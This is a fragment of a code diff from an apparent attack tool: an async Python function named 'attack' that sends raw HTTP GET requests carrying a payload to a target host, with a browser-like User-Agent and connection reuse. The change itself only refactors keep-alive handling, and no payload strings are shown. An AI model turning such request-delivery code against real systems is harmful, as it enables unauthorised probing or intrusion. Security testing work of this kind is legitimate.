@@ -136,8 +136,10 @@ async def attack(
         else:
             request, field = f"GET {place}{payload} HTTP/1.1\r\nHost: {target}\r\nAccept: */*\r\n", ""
         try:
-            opened = kept or await asyncio.wait_for(asyncio.open_connection(target, 80), 4)
-            (reader, writer), kept = opened, None
+            if kept is None:
+                kept = await asyncio.wait_for(asyncio.open_connection(target, 80), 4)
+            reader, writer = kept
+            kept = None
             writer.write(
                 f"{request}User-Agent: Mozilla/5.0\r\nConnection: {'keep-alive' if keep else 'close'}\r\n\r\n{field}".encode()
             )
